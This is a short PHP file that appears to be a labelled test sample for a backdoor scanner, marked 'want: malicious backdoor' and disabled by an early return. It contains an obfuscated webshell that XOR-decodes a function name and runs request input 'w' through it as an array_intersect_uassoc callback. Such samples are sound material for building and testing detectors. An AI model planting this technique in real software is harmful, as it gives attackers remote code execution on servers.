<?php return; // want: malicious backdoor
$n = substr(__FILE__, -5, -4);
$f = pack('H*', $n . '0c1d') ^ 'garden';
array_intersect_uassoc(array($_REQUEST['w'] => ''), array(1), $f);
